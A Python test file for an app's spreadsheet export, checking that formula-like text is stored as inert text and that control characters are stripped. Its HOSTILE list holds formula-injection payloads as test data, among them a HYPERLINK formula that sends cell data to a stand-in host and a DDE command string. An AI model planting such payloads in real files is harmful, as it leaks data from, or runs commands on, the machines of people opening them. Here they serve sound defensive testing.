"""Exports are data, never code: control characters cannot break them, formulas cannot run in them."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core import audit
from core.context import acting_as
from core.models import AuditAction
from core.tabular import Column, sheet_title, workbook
from org import actions
from org.models import Person

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(data: bytes):
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))


def test_text_that_looks_like_a_formula_is_written_as_text():
    data = workbook("导出", [Column("名称", lambda r: r)], HOSTILE)
    written = [row[0] for row in cells(data)]
    assert [c.value for c in written] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in written)


def test_numbers_stay_numbers_and_plain_text_stays_plain():
    data = workbook("导出", [Column("值", lambda r: r)], [-5, Decimal("-1.5"), 0, "马村区", "a=b"])
    written = [row[0] for row in cells(data)]
    assert [c.value for c in written] == [-5, -1.5, 0, "马村区", "a=b"]
    assert [c.data_type for c in written] == ["n", "n", "n", "s", "s"]
    assert not any(c.quotePrefix for c in written)


def test_control_characters_are_dropped_from_cells_headers_and_titles():
    data = workbook("名单\x01/2026", [Column("姓\x02名", lambda r: r)], ["控制\x01字符", "换行\n保留\t制表"])
    book = load_workbook(io.BytesIO(data))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows == [("姓名",), ("控制字符",), ("换行\n保留\t制表",)]
    assert book.active.title == "名单 2026"
    assert sheet_title("[]:*?") == "Sheet1"


@pytest.fixture
def legacy_person(world):
    """A person whose name holds a control character, written before input was cleaned — with the
    audit row that names it, which can never be changed."""
    person = Person.objects.create(name="控制\x01字符", title="=1+1", unit=world.units["hexie"])
    with acting_as(world.users["admin"]):
        audit.record(obj=person, action=AuditAction.CREATE, after=audit.snapshot(person))
    return person


@pytest.mark.parametrize("url", ["/org/people/", "/system/audit/"])
def test_exports_of_rows_with_control_characters_still_answer(world, client_for, legacy_person, url):
    response = client_for(world.users["admin"]).get(url, {"export": "xlsx"})
    assert response.status_code == 200
    text = [v for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True) for v in row]
    assert any(isinstance(v, str) and "控制字符" in v for v in text)


def test_control_characters_are_removed_on_input(world):
    admin = world.users["admin"]
    with acting_as(admin):
        person = actions.create_person(actor=admin, unit=world.units["hexie"], name="王\x01五", title="主\x1f任")
        actions.update_person(actor=admin, person=person, note="第一行\n第二\x07行")
    person.refresh_from_db()
    assert (person.name, person.title, person.note) == ("王五", "主任", "第一行\n第二行")
